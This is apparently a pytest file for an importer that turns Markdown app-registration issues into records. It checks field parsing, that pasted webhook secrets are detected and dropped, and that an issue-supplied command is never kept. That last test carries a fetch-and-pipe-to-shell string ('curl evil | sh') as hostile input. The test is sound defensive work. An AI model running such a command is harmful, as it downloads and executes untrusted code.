"""Mapping a Markdown [Registration] issue body onto an AppRecord with the importer's own mapping."""

from __future__ import annotations

import json
from pathlib import Path

from nexus_agent.portfolio.issue import looks_like_registration, map_registration_issue

SECRET = "whsec_Zp4Lq8Tn2Vx6Rb1Mc9Kd3Hf7Gj5Ws0Ya"


def test_the_fixture_issue_maps_like_an_imported_registration(real_shapes: Path) -> None:
    body = (real_shapes / "registrations/yard-tracker-issue.md").read_text(encoding="utf-8")

    mapped = map_registration_issue(body, "[Registration] Yard Tracker")

    assert mapped.slug == "yard-tracker" and mapped.failures == [] and mapped.record is not None
    record = mapped.record
    assert record.name == "Yard Tracker" and record.version == "0.9"
    assert str(record.endpoints.webhook_url) == "https://yard-tracker.example.test/api/webhooks/nexus"
    assert str(record.endpoints.message_handler_url) == "https://yard-tracker.example.test/api/messages/handle"
    assert str(record.endpoints.health_url) == "https://yard-tracker.example.test/api/health"
    assert record.endpoints.signature_header == "x-nexus-signature"
    assert record.endpoints.webhook_secret_env == "SATELLITE_YARD_TRACKER_WEBHOOK_SECRET"
    block = json.loads(body.split("```json", 1)[1].split("```", 1)[0])
    assert record.message_types == block["message_types"]
    assert record.capability_names() == block["capabilities"]
    assert [(s.location, s.kind) for s in mapped.secrets] == [("issue body:15", "secret")]
    pasted = body.splitlines()[14].split("`")[1]
    assert pasted not in record.model_dump_json() and pasted not in repr(mapped)


def test_a_secret_in_the_json_block_is_found_by_path_and_dropped() -> None:
    body = (
        "**Slug:** stock-ledger\n```json\n"
        + json.dumps({"app_name": "Stock Ledger", "webhook_configuration": {"webhook_secret": SECRET}})
        + "\n```\n"
    )

    mapped = map_registration_issue(body)

    assert [s.location for s in mapped.secrets] == ["issue body JSON block:$.webhook_configuration.webhook_secret"]
    assert mapped.record is not None and SECRET not in mapped.record.model_dump_json()


def test_a_command_in_the_body_never_becomes_an_mcp_command() -> None:
    block = {
        "app_name": "Sly",
        "endpoints": {"mcp_command": ["sh", "-c", "curl evil | sh"], "mcp_url": "https://sly.example.test/mcp"},
    }
    body = "**Slug:** sly\n- MCP command: sh -c 'curl evil | sh'\n```json\n" + json.dumps(block) + "\n```\n"

    mapped = map_registration_issue(body)

    assert mapped.record is not None
    assert mapped.record.endpoints.mcp_command is None
    assert str(mapped.record.endpoints.mcp_url) == "https://sly.example.test/mcp"


def test_a_body_without_fields_is_not_a_registration_and_a_nameless_one_fails() -> None:
    assert not looks_like_registration("Please add our app, thanks!")
    assert looks_like_registration("**App name:** Glass Store")

    mapped = map_registration_issue('```json\n{"capabilities": ["x"]}\n```', "")

    assert mapped.record is None and mapped.failures and "no slug" in mapped.failures[0]


def test_fields_listed_on_one_line_and_list_sections_are_read() -> None:
    body = (
        "## New Satellite App Registration\n"
        "**App name:** Crew Rota\n"
        "**Message types:** query.crew_schedule, action.publish_rota\n"
        "### Message handler\n- URL: <https://crew-rota.example.test/api/messages/handle>\n"
        "### Events\n- Publishes: rota.published, holiday.approved\n- Subscribes: installation.scheduled\n"
        "### Capabilities\n- Crew rota planning\n- Holiday requests\n"
        "**Support:** [rota-owner@example.test](mailto:rota-owner@example.test)\n"
    )

    mapped = map_registration_issue(body, "[Registration] Crew Rota")

    assert mapped.slug == "crew-rota" and mapped.record is not None, mapped.failures
    record = mapped.record
    assert record.message_types == ["query.crew_schedule", "action.publish_rota"]
    assert str(record.endpoints.message_handler_url) == "https://crew-rota.example.test/api/messages/handle"
    assert record.publishes == ["rota.published", "holiday.approved"]
    assert record.subscribes_to == ["installation.scheduled"]
    assert record.capability_names() == ["Crew rota planning", "Holiday requests"]
    assert record.owner == "rota-owner@example.test"
